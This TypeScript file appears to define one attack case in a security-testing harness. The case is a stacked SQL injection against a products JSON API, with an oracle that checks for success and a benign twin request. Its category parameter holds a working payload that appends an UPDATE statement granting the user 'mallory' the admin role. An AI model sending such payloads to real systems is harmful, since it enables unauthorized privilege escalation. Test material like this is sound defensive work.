import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'
import { query } from '../../visitor/visitor.ts'

/** Gives itself the admin role by a second statement in the JSON API. */
export const sqlStackedRole: Attack = defineAttack({
  id: 'sql-stacked-role',
  class: 'sql-injection',
  title: 'Gives itself the admin role by a second statement in the JSON API',
  cwe: 89,
  capec: 66,
  technique: 'T1190',
  preconditions: [],

  steps: ({ visitor }) =>
    visitor.get(
      `/api/products${query({ category: "x'; UPDATE users SET role='admin' WHERE name='mallory'; SELECT 1--" })}`,
    ),
  oracle: async (_answer, { witness }) =>
    (await witness.state()).users.some((user) => user.name === 'mallory' && user.role === 'admin'),
  twin: ({ visitor }) => visitor.get('/api/products?category=tents&limit=5'),
})
